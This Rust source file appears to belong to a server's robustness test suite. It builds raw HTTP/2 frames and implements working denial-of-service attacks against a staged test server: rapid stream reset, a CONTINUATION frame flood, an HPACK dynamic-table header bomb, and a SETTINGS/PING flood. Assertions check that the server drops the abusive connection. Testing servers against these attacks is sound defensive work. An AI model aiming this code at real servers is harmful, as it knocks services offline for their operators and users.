//! Attacks with HTTP/2 frames that no client library would send.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::TcpStream;

use crate::stage::{Attack, Ground, Stage, size};
use crate::wire::is_silence;

const OBEYS: &str = "[query]\nfloor = \"best-effort\"\ndeadline = \"10m\"";
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// Flags of a HEADERS frame.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Encodes a literal field without indexing.
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        let mut bytes = Vec::new();
        let mut rest = text.len();
        if rest < 127 {
            bytes.push(u8::try_from(rest).unwrap());
        } else {
            bytes.push(127);
            rest -= 127;
            while rest >= 128 {
                bytes.push(u8::try_from(rest % 128).unwrap() | 128);
                rest /= 128;
            }
            bytes.push(u8::try_from(rest).unwrap());
        }
        bytes.extend(text.as_bytes());
        bytes
    };
    [vec![0], text(name), text(value)].concat()
}

/// Encodes the fields of a request.
pub(crate) fn request(method: &str, path: &str, authorization: &str) -> Vec<u8> {
    let mut fields =
        [field(":method", method), field(":scheme", "http"), field(":path", path), field(":authority", "localhost")]
            .concat();
    if let Some(value) = authorization.trim().strip_prefix("authorization: ") {
        fields.extend(field("authorization", value));
    }
    fields
}

/// A connection after the preface.
pub(crate) struct Connection(pub(crate) TcpStream);

/// Flow-control windows: the bytes that the server allows, on the connection and on each stream.
struct Windows {
    initial: i64,
    connection: i64,
    streams: HashMap<u32, i64>,
    /// Received bytes of an incomplete frame.
    read: Vec<u8>,
}

impl Windows {
    fn of(streams: &[u32]) -> Self {
        let initial = 65_535;
        let streams = streams.iter().map(|stream| (*stream, initial)).collect();
        Self { initial, connection: initial, streams, read: Vec::new() }
    }

    /// Reads frames of the server and updates the windows. Returns false at the end of the
    /// connection or of the time to read.
    fn update(&mut self, from: &mut TcpStream) -> bool {
        let mut bytes = [0; 16 << 10];
        match from.read(&mut bytes) {
            Ok(count) if count > 0 => self.read.extend(&bytes[..count]),
            _ => return false,
        }
        while let Some(length) =
            self.read.get(..9).map(|head| 9 + u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize)
        {
            if self.read.len() < length {
                break;
            }
            let frame: Vec<u8> = self.read.drain(..length).collect();
            let number = |at: usize| u32::from_be_bytes([frame[at], frame[at + 1], frame[at + 2], frame[at + 3]]);
            match (frame[3], number(5)) {
                (WINDOW_UPDATE, 0) => self.connection += i64::from(number(9)),
                (WINDOW_UPDATE, stream) => *self.streams.entry(stream).or_default() += i64::from(number(9)),
                (SETTINGS, _) => self.settings(&frame[9..]),
                _ => {}
            }
        }
        true
    }

    fn settings(&mut self, payload: &[u8]) {
        for entry in payload.chunks_exact(6).filter(|entry| entry[..2] == [0, 4]) {
            let initial = i64::from(u32::from_be_bytes([entry[2], entry[3], entry[4], entry[5]]));
            self.streams.values_mut().for_each(|window| *window += initial - self.initial);
            self.initial = initial;
        }
    }

    /// Takes `length` bytes from both windows, if they have the room.
    fn take(&mut self, stream: u32, length: usize) -> bool {
        let length = i64::try_from(length).unwrap();
        let window = self.streams.entry(stream).or_default();
        let has_room = *window >= length && self.connection >= length;
        if has_room {
            *window -= length;
            self.connection -= length;
        }
        has_room
    }
}

impl Connection {
    pub(crate) fn of(stage: &Stage) -> Self {
        Self(stage.sent(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()))
    }

    /// Sends bytes. Returns false once the server has closed the connection.
    pub(crate) fn send(&mut self, bytes: &[u8]) -> bool {
        self.0.write_all(bytes).is_ok()
    }

    /// Sends the head of a request on `stream`. With `has_body` the stream stays open.
    pub(crate) fn ask(&mut self, stream: u32, fields: &[u8], has_body: bool) -> bool {
        let flags = END_HEADERS | if has_body { 0 } else { END_STREAM };
        self.send(&frame(HEADERS, flags, stream, fields))
    }

    /// Sends `length` bytes of the body of each of these requests, as fast as the windows allow,
    /// until the server opens them no further.
    pub(crate) fn bodies(&mut self, streams: &[u32], length: usize) {
        let piece = vec![b' '; 16 << 10];
        let mut windows = Windows::of(streams);
        let mut sent: HashMap<u32, usize> = HashMap::new();
        self.0.set_read_timeout(Some(std::time::Duration::from_millis(500))).unwrap();
        loop {
            let mut went_on = false;
            for stream in streams {
                let sent = sent.entry(*stream).or_default();
                if *sent < length && windows.take(*stream, piece.len()) {
                    *sent += piece.len();
                    went_on = self.send(&frame(DATA, 0, *stream, &piece));
                }
            }
            if !went_on && !windows.update(&mut self.0) {
                return;
            }
        }
    }

    /// Returns true if the server ends the connection.
    fn ends(mut self) -> bool {
        let mut bytes = Vec::new();
        !self.0.read_to_end(&mut bytes).is_err_and(|error| is_silence(&error))
    }
}

/// Rapid reset: requests that are reset as soon as they are sent.
pub(crate) fn rapid_reset(attack: Attack) {
    let stage = Ground::evil(OBEYS).attack(attack);
    for _ in 0..size(4, 40) {
        let mut connection = Connection::of(&stage);
        let fields = request("GET", "/v1/apps", "");
        for number in 0..size(2_000, 50_000) {
            let stream = u32::try_from(number * 2 + 1).unwrap();
            let reset = frame(RESET, 0, stream, &8_u32.to_be_bytes());
            if !connection.ask(stream, &fields, false) || !connection.send(&reset) {
                break;
            }
        }
        stage.look();
    }
    stage.end();
}

/// CONTINUATION flood: a header block without an end.
pub(crate) fn continuation_flood(attack: Attack) {
    let stage = Ground::evil(OBEYS).attack(attack);
    let mut connection = Connection::of(&stage);
    connection.send(&frame(HEADERS, 0, 1, &request("GET", "/healthz", "")));
    let more = field("x-more", &"y".repeat(16_000));
    let took = (0..size(2_000, 40_000)).take_while(|_| connection.send(&frame(CONTINUATION, 0, 1, &more))).count();
    assert!(took < 2_000, "{took} frames were taken");
    assert!(connection.ends(), "the connection stays");
    stage.end();
}

/// HPACK bomb: one byte each for a long field of the dynamic table.
pub(crate) fn header_bomb(attack: Attack) {
    let stage = Ground::evil(OBEYS).attack(attack);
    for _ in 0..size(3, 100) {
        let mut connection = Connection::of(&stage);
        let mut entered = field("x-long", &"y".repeat(4_000));
        entered[0] = 0x40;
        let fields = [request("GET", "/v1/apps", ""), entered, vec![0xbe; 12_000]].concat();
        connection.ask(1, &fields, false);
        connection.ask(3, &[request("GET", "/v1/apps", ""), vec![0xbe; 12_000]].concat(), false);
        stage.look();
    }
    stage.end();
}

/// SETTINGS and PING frames, each of which needs a reply, from a client that reads nothing.
pub(crate) fn control_flood(attack: Attack) {
    let stage = Ground::evil(OBEYS).attack(attack);
    for kind in [frame(SETTINGS, 0, 0, &[]), frame(PING, 0, 0, &[0; 8])] {
        let mut connection = Connection::of(&stage);
        connection.0.set_write_timeout(Some(std::time::Duration::from_secs(1))).unwrap();
        let many = kind.repeat(1_000);
        let _ = (0..size(100, 5_000)).take_while(|_| connection.send(&many)).count();
        stage.look();
    }
    stage.end();
}
